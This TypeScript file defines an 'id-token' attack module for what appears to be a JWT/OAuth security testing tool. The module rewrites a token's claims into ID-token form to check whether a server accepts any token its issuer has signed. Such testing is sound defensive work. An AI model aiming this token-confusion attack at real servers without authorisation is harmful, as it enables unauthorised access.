import { defineAttack } from '../attack'
import { valueIn, withMembers } from '../parts'

export default defineAttack({
  id: 'id-token',
  name: 'ID token instead',
  hopes: 'that the server takes any token its issuer has signed, also one made for the client.',
  scenario: 'id-token',
  async apply({ header, payload }) {
    const client = valueIn(payload, 'client_id') ?? valueIn(payload, 'azp') ?? 'agent-1'
    const signedIn = valueIn(payload, 'iat')
    const claims = {
      aud: client,
      client_id: undefined,
      scope: undefined,
      nonce: 'n-0S6_WzA2Mj',
      ...(typeof signedIn === 'number' && { auth_time: signedIn }),
    }
    return {
      edited: { header: withMembers(header, { typ: 'JWT' }), payload: withMembers(payload, claims) },
      did: 'It is an ID token now: typ JWT, the client as its aud, a nonce, and no scope.',
    }
  },
})
